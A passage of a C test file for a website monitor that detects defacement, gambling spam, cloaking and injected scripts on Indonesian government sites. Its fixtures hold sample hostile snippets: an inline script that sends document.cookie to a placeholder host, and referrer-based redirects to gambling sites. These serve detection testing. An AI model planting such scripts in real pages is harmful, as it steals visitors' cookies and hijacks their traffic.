/*
 * test_monitor.c: the website monitor's reading and judging of pages
 * (src/monitor/): what a page's visitor sees and what is hidden from it,
 * dynamic regions left out, links and scripts resolved; the content
 * rules loaded and refused at their place; the findings of a page against
 * its baseline (changed, replaced, a new script) and between the two
 * views (cloaking); organisations' domains.
 */
#include "helpers.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "app/app.h"
#include "monitor/analyse.h"

static mon_page parse(const char *html, const mon_selector *ign, size_t n_ign)
{
	mon_page p;
	sg_err e = {0};
	assert_int_equal(mon_page_parse(html, strlen(html), "https://dinkes.contohkab.go.id/a/b.html",
	                                ign, n_ign, &p, &e),
	                 0);
	return p;
}

static void test_text_and_hidden(void **state)
{
	(void)state;
	mon_page p = parse(
		"<html><head><title> Dinas  Kesehatan </title>"
		"<style>.x { color: red } .gone, #sembunyi{display : none} .tipis{font-size:0.9em}</style>"
		"<meta name=description content='Situs resmi'>"
		"<script>var a = 1;</script><script src='/js/a.js'></script>"
		"<script src='https://cdn.example.net/s.js'></script></head>"
		"<body><h1>Judul</h1><p>Satu&nbsp;dua\n  tiga <b>empat</b></p>"
		"<div class=gone><a href='https://slot.example/'>slot</a></div>"
		"<div id=sembunyi>rahasia</div>"
		"<p class='tipis x'>kecil tapi tampak</p>"
		"<span style='position:absolute; left:-9999px'>jauh</span>"
		"<span style='left:-5px'>dekat</span>"
		"<p hidden>atribut</p><noscript>tanpa js</noscript>"
		"<div style='height:0;overflow:hidden'>nol</div>"
		"<div style='opacity:0.5'>setengah</div>"
		"<p>kunjungi <a href='../c.html'>halaman <i>lain</i></a> ya</p>"
		"<img alt='logo dinas' src=x.png></body></html>",
		NULL, 0);
	assert_string_equal(p.title, "Dinas Kesehatan");
	assert_string_equal(p.description, "Situs resmi");
	assert_string_equal(p.text, "Judul\nSatu dua tiga empat\nkecil tapi tampak\ndekat\nsetengah\n"
	                            "kunjungi halaman lain ya\nlogo dinas");
	assert_string_equal(p.hidden, "slot\nrahasia\njauh\natribut\ntanpa js\nnol");
	assert_int_equal(p.n_links, 2);
	assert_string_equal(p.links[0].url, "https://slot.example/");
	assert_string_equal(p.links[0].host, "slot.example");
	assert_true(p.links[0].hidden);
	assert_string_equal(p.links[1].url, "https://dinkes.contohkab.go.id/c.html");
	assert_string_equal(p.links[1].text, "halaman lain");
	assert_false(p.links[1].hidden);
	assert_int_equal(p.n_scripts, 3);
	assert_null(p.scripts[0].src);
	assert_int_equal(strlen(p.scripts[0].sha256), 64);
	assert_string_equal(p.scripts[1].src, "https://dinkes.contohkab.go.id/js/a.js");
	assert_string_equal(p.scripts[2].host, "cdn.example.net");
	mon_page_free(&p);
}

static void test_dynamic_regions(void **state)
{
	(void)state;
	mon_selector s[3];
	sg_err e = {0};
	assert_true(mon_selector_parse("#berita", &s[0], &e));
	assert_true(mon_selector_parse("p.tanggal", &s[1], &e));
	assert_true(mon_selector_parse("aside", &s[2], &e));
	mon_page p = parse("<body><p>tetap</p><section id=berita><p>berita 1</p>"
	                   "<script src='https://x.example/y.js'></script></section>"
	                   "<p class='a tanggal'>Kamis</p><div class=tanggal>div tetap</div>"
	                   "<aside><a href='https://z.example/'>z</a></aside></body>",
	                   s, 3);
	assert_string_equal(p.text, "tetap\ndiv tetap");
	assert_int_equal(p.n_scripts, 0);
	assert_int_equal(p.n_links, 0);
	mon_page_free(&p);
	mon_selector x;
	const char *bad[] = {"#", ".", "", "a b", "p.", "#a#b", "<p>"};
	for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
		assert_false(mon_selector_parse(bad[i], &x, &e));
}

static void test_hosts_and_domains(void **state)
{
	(void)state;
	char h[64], d[64];
	mon_url_host("HTTPS://User@Dinkes.ContohKab.go.id.:8443/x?y", h, sizeof h);
	assert_string_equal(h, "dinkes.contohkab.go.id");
	mon_url_host("http://[2001:db8::1]:80/", h, sizeof h);
	assert_string_equal(h, "[2001:db8::1]");
	mon_url_host("mailto:a@b", h, sizeof h);
	assert_string_equal(h, "");
	mon_org_domain("dinkes.contohkab.go.id", d, sizeof d);
	assert_string_equal(d, "contohkab.go.id");
	mon_org_domain("www.example.com", d, sizeof d);
	assert_string_equal(d, "example.com");
	mon_org_domain("a.b.co.uk", d, sizeof d);
	assert_string_equal(d, "b.co.uk");
	mon_org_domain("10.1.2.3", d, sizeof d);
	assert_string_equal(d, "10.1.2.3");
	assert_true(mon_same_org("contohkab.go.id", "www.contohkab.go.id"));
	assert_false(mon_same_org("contohkab.go.id", "lainkab.go.id"));
	assert_false(mon_same_org("127.0.0.1", "localhost"));
}

static void test_distance(void **state)
{
	(void)state;
	assert_true(mon_text_distance("a\nb\nc", "c\nb\na") == 0);
	assert_true(mon_text_distance("", "") == 0);
	assert_true(mon_text_distance("a\nb", "x\ny") == 1);
	double d = mon_text_distance("a\nb\nc\nd", "a\nb\nc\ne");
	assert_true(d > 0.24 && d < 0.26);
}

static char *write_tmp(const char *text)
{
	static char path[64];
	snprintf(path, sizeof path, "/tmp/sigap-monrule-XXXXXX");
	int fd = mkstemp(path);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, text, strlen(text)), (ssize_t)strlen(text));
	close(fd);
	return path;
}

static void test_rules_refused(void **state)
{
	(void)state;
	static const struct {
		const char *text, *where;
	} cases[] = {
		{"id: a\njudul: A\njenis: judi\nkuat: [ab]\nwarna: merah\n", ":5:1: unknown key 'warna'"},
		{"id: A B\njudul: A\njenis: judi\nkuat: [ab]\n", ":1:5: id: 1 to 64"},
		{"id: a\njudul: A\njenis: lain\nkuat: [ab]\n", ":3:8: jenis: judi, deface or konten"},
		{"id: a\njudul: A\njenis: judi\ntingkat: parah\nkuat: [ab]\n", ":4:10: tingkat:"},
		{"id: a\njudul: A\njenis: judi\nambang: 0\nkuat: [ab]\n", ":4:9: ambang:"},
		{"id: a\njudul: A\njenis: judi\nkuat: satu\n", ":4:7: kuat: expected a list"},
		{"id: a\njudul: A\njenis: judi\nkuat: [x]\n", ":4:8: kuat: 'x' needs at least two"},
		{"id: a\njudul: A\njenis: judi\npola: ['(']\n", ":4:8: pola '(': "},
		{"id: a\njudul: A\njenis: judi\n", ":1:1: the rule has no sign"},
		{"- a\n", ":1:1: a rule is a mapping"},
		{"id: a\njudul: [\n", ":3:1: "},
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		char *path = write_tmp(cases[i].text);
		diags d = DIAGS_INIT;
		const char *paths[] = {path};
		mon_rules *r = mon_rules_load(paths, 1, false, &d);
		assert_null(r);
		char first[512];
		diags_first(&d, first, sizeof first);
		if (!strstr(first, cases[i].where))
			fail_msg("case %zu: '%s' lacks '%s'", i, first, cases[i].where);
		diags_free(&d);
		unlink(path);
	}
	/* two files, one id */
	char *a = strdup(write_tmp("id: a\njudul: A\njenis: judi\nkuat: [ab]\n"));
	char *b = strdup(write_tmp("id: a\njudul: B\njenis: judi\nkuat: [cd]\n"));
	const char *paths[] = {a, b};
	diags d = DIAGS_INIT;
	assert_null(mon_rules_load(paths, 2, false, &d));
	char first[512];
	diags_first(&d, first, sizeof first);
	assert_non_null(strstr(first, "is already the id of"));
	diags_free(&d);
	unlink(a);
	unlink(b);
	free(a);
	free(b);
}

static void test_rules_score(void **state)
{
	(void)state;
	diags d = DIAGS_INIT;
	mon_rules *r = mon_rules_load(NULL, 0, true, &d);
	assert_non_null(r);
	assert_int_equal(d.n, 0);
	assert_int_equal(mon_rules_count(r), 3);
	mon_scan *s = mon_scan_new(r);
	mon_rule_hit h[4];
	/* news against gambling names it: under the threshold */
	const char *news = "Pemkab mengimbau warga menjauhi judi online, togel dan slot.";
	mon_scan_reset(s);
	mon_scan_text(s, news, strlen(news));
	assert_int_equal(mon_scan_hits(s, h, 4), 0);
	/* a police raid's news and a school's enrolment page: not spam */
	static const char *const ordinary[] = {
		"Polres Contoh Tangkap Tiga Bandar Togel. Para pelaku juga mengelola situs judi slot "
		"online dan judi online lain. Warga diimbau melapor; judol merusak keluarga.",
		"PPDB 2026: pendaftaran melalui link alternatif berikut. Slot kuota jalur zonasi 120 "
		"kursi. Beban belajar 32 JP sepekan. Daftar sekarang sebelum 30 Juni.",
		"Wisata kicau burung gacor di Taman Kota; Bandar Udara Contoh melayani 12 rute; "
		"jackpot hadiah undian UMKM; RTP (Rencana Tata Ruang) Kabupaten Contoh."};
	for (size_t i = 0; i < sizeof ordinary / sizeof ordinary[0]; i++) {
		mon_scan_reset(s);
		mon_scan_text(s, ordinary[i], strlen(ordinary[i]));
		if (mon_scan_hits(s, h, 4) != 0)
			fail_msg("ordinary page %zu taken for spam: %s", i, h[0].signs);
	}
	/* spam that praises its gambling words, without a promoter's jargon */
	static const char *const praised[] = {
		"Situs Judi Slot Online Terpercaya 2026 - Agen Slot Resmi. Agen slot online resmi dengan "
		"jackpot terbesar, withdraw cepat, link alternatif anti blokir.",
		"Judi Online Terpercaya | Agen Judi Bola Resmi | Link Alternatif. Taruhan bola online, "
		"sbobet, casino online."};
	for (size_t i = 0; i < sizeof praised / sizeof praised[0]; i++) {
		mon_scan_reset(s);
		mon_scan_text(s, praised[i], strlen(praised[i]));
		if (mon_scan_hits(s, h, 4) != 1)
			fail_msg("spam page %zu not found", i);
	}
	/* spam: many signs, whole words only, any case, any white space */
	const char *spam = "SLOT   GACOR hari ini, MAXWIN! link alternatif";
	mon_scan_reset(s);
	mon_scan_text(s, spam, strlen(spam));
	assert_int_equal(mon_scan_hits(s, h, 4), 1);
	assert_string_equal(h[0].rule->id, "judi-online");
	assert_non_null(strstr(h[0].signs, "maxwin"));
	/* a word inside another is not that word */
	const char *inside = "slotgacor maxwinner xtogel";
	mon_scan_reset(s);
	mon_scan_text(s, inside, strlen(inside));
	assert_int_equal(mon_scan_hits(s, h, 4), 0);
	/* but a host name carries strong words without spaces */
	mon_scan_reset(s);
	mon_scan_host(s, "slotgacor-maxwin.example");
	assert_int_equal(mon_scan_hits(s, h, 4), 1);
	/* a pattern is shown by what it matched */
	const char *deface = "h4cked  by Tim Contoh";
	mon_scan_reset(s);
	mon_scan_text(s, deface, strlen(deface));
	assert_int_equal(mon_scan_hits(s, h, 4), 1);
	assert_string_equal(h[0].rule->id, "deface");
	assert_string_equal(h[0].signs, "h4cked  by");
	mon_scan_free(s);
	mon_rules_free(r);
}

static const char *same_text(const char *s)
{
	return s;
}

static mon_fetch_res reached(const char *url)
{
	mon_fetch_res r = {.reached = true, .status = 200, .total_us = 20000, .ttfb_us = 5000};
	r.final_url = (char *)url;
	return r;
}

static bool has(const mon_findings *f, mon_kind k)
{
	for (size_t i = 0; i < f->n; i++)
		if (f->v[i].kind == k)
			return true;
	return false;
}

static void test_baseline(void **state)
{
	(void)state;
	const char *url = "https://dinkes.contohkab.go.id/";
	diags d = DIAGS_INIT;
	mon_rules *r = mon_rules_load(NULL, 0, true, &d);
	mon_scan *s = mon_scan_new(r);
	mon_limits lim = {.now = 1800000000, .slow_ms = 5000, .cert_warn_days = 30,
	                  .changed_min = 0, .replaced_min = 0.8};
	const char *base_html = "<body><h1>Dinas</h1><p>Layanan</p><p>Alamat</p><p>Telepon</p>"
	                        "<p id=berita>Berita hari ini</p>"
	                        "<script src='https://cdn.contohkab.go.id/a.js'></script></body>";
	mon_selector ign;
	sg_err e = {0};
	assert_true(mon_selector_parse("#berita", &ign, &e));
	mon_page base = parse(base_html, &ign, 1);
	const mon_script_seen scripts[] = {{"https://cdn.contohkab.go.id/a.js", ""}};
	mon_baseline bl = {base.text, scripts, 1, true};
	mon_fetch_res b = reached(url);
	/* only the dynamic region changed: nothing */
	mon_page same = parse("<body><h1>Dinas</h1><p>Layanan</p><p>Alamat</p><p>Telepon</p>"
	                      "<p id=berita>Berita besok, lain sama sekali</p>"
	                      "<script src='https://cdn.contohkab.go.id/a.js'></script></body>",
	                      &ign, 1);
	mon_findings f = {0};
	mon_analyse(url, &b, &same, NULL, NULL, &bl, s, &lim, &f);
	assert_int_equal(f.n, 0);
	mon_findings_free(&f);
	/* a line changed outside it: berubah, with its share */
	mon_page changed = parse("<body><h1>Dinas</h1><p>Layanan</p><p>Alamat baru</p><p>Telepon</p>"
	                         "<script src='https://cdn.contohkab.go.id/a.js'></script></body>",
	                         &ign, 1);
	mon_analyse(url, &b, &changed, NULL, NULL, &bl, s, &lim, &f);
	assert_int_equal(f.n, 1);
	assert_int_equal(f.v[0].kind, MON_F_CHANGED);
	assert_int_equal(f.v[0].value, 25);
	mon_findings_free(&f);
	/* replaced outright without a single mark: deface */
	mon_page other = parse("<body><p>Halaman lain</p><p>sama sekali</p></body>", &ign, 1);
	mon_analyse(url, &b, &other, NULL, NULL, &bl, s, &lim, &f);
	assert_true(has(&f, MON_F_DEFACE));
	assert_string_equal(f.v[0].level, "critical");
	mon_findings_free(&f);
	/* a new external script (a skimmer) */
	mon_page skim = parse("<body><h1>Dinas</h1><p>Layanan</p><p>Alamat</p><p>Telepon</p>"
	                      "<script src='https://cdn.contohkab.go.id/a.js'></script>"
	                      "<script src='//skim.example/k.js'></script></body>",
	                      &ign, 1);
	mon_analyse(url, &b, &skim, NULL, NULL, &bl, s, &lim, &f);
	assert_int_equal(f.n, 1);
	assert_int_equal(f.v[0].kind, MON_F_SCRIPT);
	assert_string_equal(f.v[0].what, "https://skim.example/k.js");
	mon_findings_free(&f);
	/* a known script at a new version is no new script */
	mon_page bump = parse("<body><h1>Dinas</h1><p>Layanan</p><p>Alamat</p><p>Telepon</p>"
	                      "<script src='https://cdn.contohkab.go.id/a.js?ver=2'></script></body>",
	                      &ign, 1);
	mon_analyse(url, &b, &bump, NULL, NULL, &bl, s, &lim, &f);
	assert_int_equal(f.n, 0);
	mon_findings_free(&f);
	mon_page_free(&bump);
	/* a new path of the site's own is (an upload of a compromised site) */
	mon_page own = parse("<body><h1>Dinas</h1><p>Layanan</p><p>Alamat</p><p>Telepon</p>"
	                     "<script src='https://cdn.contohkab.go.id/a.js'></script>"
	                     "<script src='/wp-content/uploads/2026/12/cache-min.js'></script></body>",
	                     &ign, 1);
	mon_analyse(url, &b, &own, NULL, NULL, &bl, s, &lim, &f);
	assert_int_equal(f.n, 1);
	assert_string_equal(f.v[0].what, "https://dinkes.contohkab.go.id/wp-content/uploads/2026/12/cache-min.js");
	mon_findings_free(&f);
	mon_page_free(&own);
	/* a crawler shown a wholly other page, without gambling words: cloaking */
	mon_fetch_res c = reached(url);
	char big[2000] = "<body>";
	for (int i = 0; i < 30; i++)
		snprintf(big + strlen(big), sizeof big - strlen(big), "<p>baris lain %d</p>", i);
	mon_page cv = parse(big, NULL, 0);
	mon_analyse(url, &b, &same, &c, &cv, NULL, s, &lim, &f);
	assert_int_equal(f.n, 1);
	assert_int_equal(f.v[0].kind, MON_F_CLOAKING);
	assert_true(f.v[0].crawler);
	char sentence[512];
	mon_finding_sentence(&f.v[0], same_text, sentence, sizeof sentence);
	assert_string_equal(sentence, "A search-engine crawler is shown another page than a visitor: "
	                              "100% of the lines differ");
	mon_findings_free(&f);
	/* the baseline is not compared with an error page */
	b.status = 503;
	mon_analyse(url, &b, &other, NULL, NULL, &bl, s, &lim, &f);
	assert_int_equal(f.n, 1);
	assert_int_equal(f.v[0].kind, MON_F_HTTP);
	assert_string_equal(f.v[0].level, "high");
	mon_findings_free(&f);
	mon_page_free(&cv);
	mon_page_free(&skim);
	mon_page_free(&other);
	mon_page_free(&changed);
	mon_page_free(&same);
	mon_page_free(&base);
	mon_scan_free(s);
	mon_rules_free(r);
}

/* Scripts against the baseline: a script of the site at the same URL whose
 * body hashes otherwise is skrip_berubah (high); one not hashed, or hashed
 * alike, is nothing; an inline script the baseline did not have is
 * skrip_berubah (medium), one whose nonce and time alone changed is not. */
static void test_script_hashes(void **state)
{
	(void)state;
	const char *url = "https://dinkes.contohkab.go.id/";
	diags d = DIAGS_INIT;
	mon_rules *r = mon_rules_load(NULL, 0, true, &d);
	mon_scan *s = mon_scan_new(r);
	mon_limits lim = {.now = 1800000000, .slow_ms = 5000, .replaced_min = 0.8};
	mon_fetch_res b = reached(url);
	const char *html_a = "<body><p>Dinas</p><script src='/js/app.js'></script>"
	                     "<script>var wp = {\"nonce\": \"a1b2c3d4e5\", \"t\": 1764900000};"
	                     "init(wp);</script></body>";
	const char *html_b = "<body><p>Dinas</p><script src='/js/app.js'></script>"
	                     "<script>var wp = {\"nonce\": \"9f8e7d6c5b\", \"t\": 1764903600};"
	                     "init(wp);</script></body>";
	mon_page pa = parse(html_a, NULL, 0), pb = parse(html_b, NULL, 0);
	assert_int_equal(pa.n_scripts, 2);
	/* the nonce and the time alone changed: the same inline hash */
	assert_string_equal(pa.scripts[1].sha256, pb.scripts[1].sha256);
	/* so with a base64 token, a nonce of digits alone, a hex hash */
	mon_page t1 = parse("<script>boot('q+3/Zk9=Yw1x0a/BcD==', '1234567890', 'deadbeefcafe');</script>",
	                    NULL, 0),
	         t2 = parse("<script>boot('Az/9+kLm0PqR2s/tUv==', 'a1b2c3d4e5', 'feedfacebead');</script>",
	                    NULL, 0),
	         t3 = parse("<script>boot('Az/9+kLm0PqR2s/tUv==', 'a1b2c3d4e5', x);</script>", NULL, 0);
	assert_string_equal(t1.scripts[0].sha256, t2.scripts[0].sha256);
	assert_string_not_equal(t2.scripts[0].sha256, t3.scripts[0].sha256);
	mon_page_free(&t1);
	mon_page_free(&t2);
	mon_page_free(&t3);
	/* a data block is no script: read as text (for the rules), not counted */
	mon_page ld = parse("<script type='application/ld+json'>{\"headline\": \"slot gacor\"}</script>"
	                    "<script type='text/javascript'>go()</script><script type=module>m()</script>",
	                    NULL, 0);
	assert_int_equal(ld.n_scripts, 2);
	assert_non_null(strstr(ld.script, "slot gacor"));
	mon_page_free(&ld);
	assert_string_equal(pa.scripts[1].excerpt, "var wp = {\"nonce\": \"a1b2c3d4e5\", \"t\": 1764900000};init(wp);");
	const char *h1 = "1111111111111111111111111111111111111111111111111111111111111111";
	const char *h2 = "2222222222222222222222222222222222222222222222222222222222222222";
	mon_script_seen seen[] = {{"https://dinkes.contohkab.go.id/js/app.js", h1},
	                          {NULL, pa.scripts[1].sha256}};
	mon_baseline bl = {pa.text, seen, 2, true};
	mon_findings f = {0};
	/* the script read with the same hash, and not read at all: nothing */
	snprintf(pb.scripts[0].sha256, 65, "%s", h1);
	mon_analyse(url, &b, &pb, NULL, NULL, &bl, s, &lim, &f);
	assert_int_equal(f.n, 0);
	pb.scripts[0].sha256[0] = '\0';
	mon_analyse(url, &b, &pb, NULL, NULL, &bl, s, &lim, &f);
	assert_int_equal(f.n, 0);
	/* other content at the same URL: a skimmer written into the file */
	snprintf(pb.scripts[0].sha256, 65, "%s", h2);
	mon_analyse(url, &b, &pb, NULL, NULL, &bl, s, &lim, &f);
	assert_int_equal(f.n, 1);
	assert_int_equal(f.v[0].kind, MON_F_SCRIPT_CHANGED);
	assert_string_equal(f.v[0].level, "high");
	assert_int_equal(f.v[0].value, 0);
	assert_string_equal(f.v[0].what, "https://dinkes.contohkab.go.id/js/app.js");
	assert_string_equal(mon_kind_code(f.v[0].kind), "skrip_berubah");
	mon_findings_free(&f);
	/* a baseline without the hash (not read then) is not compared */
	seen[0].sha256 = "";
	mon_analyse(url, &b, &pb, NULL, NULL, &bl, s, &lim, &f);
	assert_int_equal(f.n, 0);
	/* an inline script injected: one finding, with its first words */
	mon_page pc = parse("<body><p>Dinas</p><script src='/js/app.js'></script>"
	                    "<script>var wp = {\"nonce\": \"0123456789\", \"t\": 1764907200};init(wp);</script>"
	                    "<script>\n  if (document.referrer.match(/google/))\n"
	                    "    location = 'https://slot.example/';\n</script>"
	                    "<script>new Image().src='//x.example/c?'+document.cookie</script></body>",
	                    NULL, 0);
	mon_analyse(url, &b, &pc, NULL, NULL, &bl, s, &lim, &f);
	const mon_finding *in = NULL;
	for (size_t i = 0; i < f.n; i++)
		if (f.v[i].kind == MON_F_SCRIPT_CHANGED)
			in = &f.v[i];
	assert_non_null(in);
	assert_string_equal(in->level, "medium");
	assert_int_equal(in->value, 2);
	assert_string_equal(in->what,
	                    "if (document.referrer.match(/google/)) location = 'https://slot.example/';");
	char sentence[1400];
	mon_finding_sentence(in, same_text, sentence, sizeof sentence);
	assert_non_null(strstr(sentence, "2 inline scripts"));
	mon_findings_free(&f);
	/* a baseline accepted before inline scripts were kept: not compared */
	bl.inline_known = false;
	mon_analyse(url, &b, &pc, NULL, NULL, &bl, s, &lim, &f);
	for (size_t i = 0; i < f.n; i++)
		assert_int_not_equal(f.v[i].kind, MON_F_SCRIPT_CHANGED);
	mon_findings_free(&f);
	mon_page_free(&pa);
	mon_page_free(&pb);
	mon_page_free(&pc);
	mon_scan_free(s);
	mon_rules_free(r);
	diags_free(&d);
}

static void test_sitemap(void **state)
{
	(void)state;
	const char xml[] = "<?xml version='1.0'?><urlset>"
	                   "<url><loc> https://dinkes.contohkab.go.id/b?x=1&amp;y=2 </loc></url>"
	                   "<url><loc>https://dinkes.contohkab.go.id/a</loc></url>"
	                   "<url><loc>https://www.contohkab.go.id/c</loc></url>"
	                   "<url><loc>https://slot.example/d</loc></url>"
	                   "<url><loc>https://dinkes.contohkab.go.id/a</loc></url>"
	                   "<url><loc>ftp://dinkes.contohkab.go.id/e</loc></url>"
	                   "<url><loc>https://dinkes.contohkab.go.id/cut";
	bool index = true;
	char *u = mon_sitemap_urls(xml, strlen(xml), 100, &index);
	assert_false(index);
	assert_string_equal(u, "https://dinkes.contohkab.go.id/a\nhttps://dinkes.contohkab.go.id/b?x=1&y=2\n"
	                       "https://slot.example/d\nhttps://www.contohkab.go.id/c");
	char *two = mon_sitemap_urls(xml, strlen(xml), 2, &index);
	assert_string_equal(two, "https://dinkes.contohkab.go.id/a\nhttps://dinkes.contohkab.go.id/b?x=1&y=2");
	const char idx[] = "<sitemapindex><sitemap><loc>https://dinkes.contohkab.go.id/s1.xml</loc></sitemap>";
	char *i = mon_sitemap_urls(idx, strlen(idx), 100, &index);
	assert_true(index);
	assert_string_equal(i, "https://dinkes.contohkab.go.id/s1.xml");
	/* robots.txt's Sitemap: lines, any case, comments and bad ones left out */
	const char robots[] = "User-agent: *\r\nDisallow: /admin/\r\n"
	                      "Sitemap: https://dinkes.contohkab.go.id/sitemap.xml\r\n"
	                      "  sitemap:https://dinkes.contohkab.go.id/slot.xml # dipasang\n"
	                      "SITEMAP: ftp://dinkes.contohkab.go.id/x.xml\n"
	                      "Sitemap: https://a b/\n"
	                      "# Sitemap: https://dinkes.contohkab.go.id/komentar.xml\n"
	                      "Sitemap:";
	char *rs = mon_robots_sitemaps(robots, strlen(robots), 10);
	assert_string_equal(rs, "https://dinkes.contohkab.go.id/sitemap.xml\n"
	                        "https://dinkes.contohkab.go.id/slot.xml");
	free(rs);
	rs = mon_robots_sitemaps(robots, strlen(robots), 1);
	assert_string_equal(rs, "https://dinkes.contohkab.go.id/sitemap.xml");
	free(rs);
	/* several files' lists merged: sorted, each once */
	char *m = mon_lines_sorted("https://x.go.id/b\nhttps://x.go.id/a\n\nhttps://x.go.id/b\n", 10);
	assert_string_equal(m, "https://x.go.id/a\nhttps://x.go.id/b");
	free(m);
	m = mon_lines_sorted("", 10);
	assert_string_equal(m, "");
	free(m);
	diags d = DIAGS_INIT;
	mon_rules *r = mon_rules_load(NULL, 0, true, &d);
	mon_scan *sc = mon_scan_new(r);
	mon_findings f = {0};
	mon_sitemap_compare(u, u, sc, &f);
	assert_int_equal(f.n, 0);
	mon_sitemap_compare("https://x.go.id/a", "https://x.go.id/a\nhttps://x.go.id/berita-baru", sc, &f);
	assert_int_equal(f.n, 1);
	assert_int_equal(f.v[0].kind, MON_F_SITEMAP);
	assert_string_equal(f.v[0].level, "high");
	assert_int_equal(f.v[0].value, 1);
	mon_findings_free(&f);
	mon_sitemap_compare("https://x.go.id/a",
	                    "https://x.go.id/a\nhttps://x.go.id/slot-gacor-maxwin\nhttps://x.go.id/togel-4d",
	                    sc, &f);
	assert_string_equal(f.v[0].level, "critical");
	assert_int_equal(f.v[0].value, 2);
	assert_string_equal(f.v[0].what, "https://x.go.id/slot-gacor-maxwin, https://x.go.id/togel-4d");
	mon_findings_free(&f);
	mon_scan_free(sc);
	mon_rules_free(r);
	free(u);
	free(two);
	free(i);
}

/* The store's side without a network: a site watched, its claim by one
 * round only, the checks past [pantau] simpan deleted. */
static void test_store_rounds(void **state)
{
	(void)state;
	char *dir = scratch_new();
	app a;
	int64_t t0 = wib("2026-12-01 08:00");
	test_app_open(&a, dir, t0);
	sg_err e = {0};
	assert_int_equal(db_run(a.db, &e, "INSERT INTO opd (name, abbrev, created_at, updated_at) "
	                                   "VALUES ('Dinas Kesehatan', 'DINKES', 0, 0)", ""), 0);
	const char *urls[] = {"http://127.0.0.1:9/"};
	asset_in in = {.opd = "DINKES", .name = "Situs", .kind = "situs_web", .urls = urls,
	               .n_urls = 1, .has_urls = true};
	int64_t asset = 0, site = 0;
	if (asset_add(&a, "cli:test", &in, &asset, &e) != 0)
		fail_msg("%s", e.msg);
	monitor_site_in m = {.asset_id = asset, .url = "http://127.0.0.1:9/", .period = 600};
	if (monitor_site_add(&a, "cli:test", &m, &site, &e) != 0)
		fail_msg("%s", e.msg);
	/* a second claim of the same due time finds it moved */
	assert_int_equal(db_run(a.db, &e, "UPDATE monitor_sites SET next_at = ? WHERE id = ? AND next_at = ?",
	                        "iii", t0 + 600, site, t0), 0);
	assert_int_equal(db_changes(a.db), 1);
	assert_int_equal(db_run(a.db, &e, "UPDATE monitor_sites SET next_at = ? WHERE id = ? AND next_at = ?",
	                        "iii", t0 + 600, site, t0), 0);
	assert_int_equal(db_changes(a.db), 0);
	/* nothing due until then */
	diags d = DIAGS_INIT;
	monitor_checker *c = monitor_checker_new(&a, &d);
	assert_non_null(c);
	monitor_result r;
	assert_int_equal(monitor_round(&a, c, "test", false, &r, &e), 0);
	assert_int_equal(r.sites, 0);
	/* checks of 100 and of 89 days ago: the older goes */
	for (int days = 100; days >= 89; days -= 11)
		assert_int_equal(db_run(a.db, &e, "INSERT INTO monitor_checks (site_id, at, status, ms, "
		                                   "ttfb_ms, findings) VALUES (?, ?, 200, 1, 1, 0)",
		                        "ii", site, t0 - days * 86400), 0);
	int64_t gone = 0;
	assert_int_equal(monitor_prune(&a, &gone, &e), 0);
	assert_int_equal(gone, 1);
	assert_int_equal(count_rows(&a, "monitor_checks"), 1);
	monitor_checker_free(c);
	app_close(&a);
	scratch_free(dir);
}

/* An inline script that sends search-engine visitors away is read, as a
 * hidden sign; an analytics snippet is not such a script. */
static void test_inline_script(void **state)
{
	(void)state;
	diags d = DIAGS_INIT;
	mon_rules *r = mon_rules_load(NULL, 0, true, &d);
	mon_scan *s = mon_scan_new(r);
	mon_limits lim = {.now = 1800000000, .slow_ms = 5000, .cert_warn_days = 30, .replaced_min = 0.8};
	mon_fetch_res b = {.reached = true, .status = 200, .final_url = (char *)"https://x.go.id/"};
	mon_page p = parse("<body><p>Dinas</p><script>if (/google|bing/.test(document.referrer)) "
	                   "{ window.location.href = 'https://slot88.example/'; }</script></body>",
	                   NULL, 0);
	mon_findings f = {0};
	mon_analyse("https://x.go.id/", &b, &p, NULL, NULL, NULL, s, &lim, &f);
	assert_int_equal(f.n, 1);
	assert_int_equal(f.v[0].kind, MON_F_CONTENT);
	assert_string_equal(f.v[0].rule, "pengalihan-mesin-pencari");
	assert_true(f.v[0].hidden);
	mon_findings_free(&f);
	mon_page_free(&p);
	/* the signs in two scripts: a translate widget and a back button */
	p = parse("<body><script>function t() { new google.translate.TranslateElement({}); }</script>"
	          "<script>if (document.referrer) { history.back(); } else { window.location.href = "
	          "'/'; }</script></body>",
	          NULL, 0);
	mon_analyse("https://x.go.id/", &b, &p, NULL, NULL, NULL, s, &lim, &f);
	assert_int_equal(f.n, 0);
	mon_findings_free(&f);
	mon_page_free(&p);
	/* the referrer first, the engine next: one script still */
	p = parse("<body><script>var r = document.referrer; if (r.indexOf('bing') > -1) "
	          "location.replace('https://slot.example/');</script></body>",
	          NULL, 0);
	mon_analyse("https://x.go.id/", &b, &p, NULL, NULL, NULL, s, &lim, &f);
	assert_int_equal(f.n, 1);
	mon_findings_free(&f);
	mon_page_free(&p);
	p = parse("<head><script>window.dataLayer = window.dataLayer || []; function gtag()"
	          "{dataLayer.push(arguments);} gtag('config', 'G-XXXX'); // google</script></head>"
	          "<body><p>Dinas</p></body>",
	          NULL, 0);
	mon_analyse("https://x.go.id/", &b, &p, NULL, NULL, NULL, s, &lim, &f);
	assert_int_equal(f.n, 0);
	mon_findings_free(&f);
	mon_page_free(&p);
	mon_scan_free(s);
	mon_rules_free(r);
}

static void test_bad_html_survives(void **state)
{
	(void)state;
	/* unclosed, deep, binary: read without failing */
	char *deep = malloc(200000);
	size_t n = 0;
	for (int i = 0; i < 20000; i++)
		n += (size_t)sprintf(deep + n, "<div>");
	strcpy(deep + n, "dalam");
	mon_page p = parse(deep, NULL, 0);
	mon_page_free(&p);
	free(deep);
	const char junk[] = "<a href='\x01\xff'><script src=>\xfe\xfe</a><style>.a{display:none";
	p = parse(junk, NULL, 0);
	mon_page_free(&p);
	p = parse("", NULL, 0);
	assert_string_equal(p.text, "");
	mon_page_free(&p);
	/* nothing hides what follows: nesting past the parser's bound, a
	 * declared encoding whose bytes are broken, NUL bytes */
	char *deeper = malloc(40000);
	n = (size_t)sprintf(deeper, "<p>awal</p>");
	for (int i = 0; i < 5000; i++)
		n += (size_t)sprintf(deeper + n, "<i>");
	strcpy(deeper + n, "<p>kalimat terakhir</p>");
	p = parse(deeper, NULL, 0);
	assert_true(strstr(p.text, "kalimat terakhir") || strstr(p.hidden, "kalimat terakhir"));
	mon_page_free(&p);
	free(deeper);
